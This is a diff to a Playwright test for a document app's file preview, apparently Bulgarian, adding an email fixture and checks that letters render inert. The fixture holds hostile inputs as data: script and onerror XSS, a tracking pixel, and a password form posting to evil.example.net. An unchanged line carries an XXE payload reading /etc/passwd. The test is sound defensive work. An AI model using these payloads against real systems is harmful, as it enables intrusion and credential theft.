@@ -1,4 +1,5 @@
 import type { Locator } from 'playwright/test'
+import { outlookLetter } from '../../fixtures/files/outlookLetter.ts'
 import { expect, test } from '../support/journey.ts'
 import type { Screen } from '../support/screen.ts'
 
@@ -22,7 +23,27 @@ const capital = 0x410
 const cp1251 = (text: string) =>
   Uint8Array.from([...text].map((one) => (one >= 'А' ? one.charCodeAt(0) - capital + 0xc0 : one.charCodeAt(0))))
 
-test('files of other programs are read on the screen: texts and XML', async ({ as }) => {
+const eml = [
+  'From: ivan@example.net',
+  'To: office@example.net',
+  'Subject: =?UTF-8?B?0KHQv9GA0LDQstC60LA=?=',
+  'Date: Fri, 20 Nov 2026 10:15:00 +0200',
+  'Content-Type: multipart/mixed; boundary=m',
+  '',
+  '--m',
+  'Content-Type: text/html',
+  '',
+  '<h1>Report</h1><script>document.title="x"</script><img src="https://track.example.net/1.gif" onerror="document.title=1">',
+  '<form action="https://evil.example.net"><input name=password><a href="https://evil.example.net">log in</a></form>',
+  '--m',
+  'Content-Type: text/plain',
+  'Content-Disposition: attachment; filename=list.txt',
+  '',
+  'one line',
+  '--m--',
+].join('\r\n')
+
+test('files of other programs are read on the screen: texts, XML and letters', async ({ as }) => {
   const clerk = await as('mpetrova', { at: null })
   const { page } = clerk
   await clerk.goTo('/documents-flow/all?documentStatusId=1&documentDirectionId=1&departmentId=any')
@@ -50,6 +71,41 @@ test('files of other programs are read on the screen: texts and XML', async ({ a
       '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a><b>1</b><script>&e;</script></a>'
     const column = await preview(clerk, 'данни.xml', new TextEncoder().encode(xml))
     await expect(column.locator('pre')).toContainText('<a>\n  <b>1</b>\n  <script>&e;</script>\n</a>')
+    await closePreview(column)
+  })
+
+  await test.step('a letter is read with its files; nothing of it runs or is fetched', async () => {
+    const asked: string[] = []
+    page.on('request', (request) => asked.push(request.url()))
+    const column = await preview(clerk, 'писмо.eml', new TextEncoder().encode(eml))
+    const place = column.getByRole('region', { name: 'Писмото писмо.eml' })
+    await expect(place).toContainText('Справка')
+    await expect(place).toContainText('log in (https://evil.example.net)')
+    await expect(place).toContainText('1 картина от интернет')
+    await expect(place.locator('a, input, form, img, script')).toHaveCount(0)
+    await clerk.checkAxe('a letter that is read')
+    await place.getByRole('button', { name: 'Преглед на list.txt' }).press('Enter')
+    await expect(column.locator('pre')).toContainText('one line')
+    const saved = page.waitForEvent('download')
+    await column.getByRole('button', { name: 'Изтегли list.txt' }).click()
+    expect((await saved).suggestedFilename()).toBe('list.txt')
+    await column.getByRole('button', { name: 'Към писмото' }).press('Enter')
+    await expect(place.getByRole('button', { name: 'list.txt', exact: true })).toBeFocused()
+    expect(asked.filter((address) => address.includes('example.net'))).toEqual([])
+    await closePreview(column)
+  })
+
+  await test.step('a letter of Outlook is read too', async () => {
+    const bytes = outlookLetter({
+      from: { name: 'Иван Петров', address: 'ivan@example.net' },
+      to: [{ name: 'Агенцията', address: 'office@example.net' }],
+      subject: 'Запитване',
+      text: 'Здравейте, моля за справка.',
+      received: '2026-11-20T08:15:00.000Z',
+      files: [],
+    })
+    const column = await preview(clerk, 'писмо.msg', bytes)
+    await expect(column.getByRole('region', { name: 'Писмото писмо.msg' })).toContainText('моля за справка')
     await closePreview(column)
   })
 })
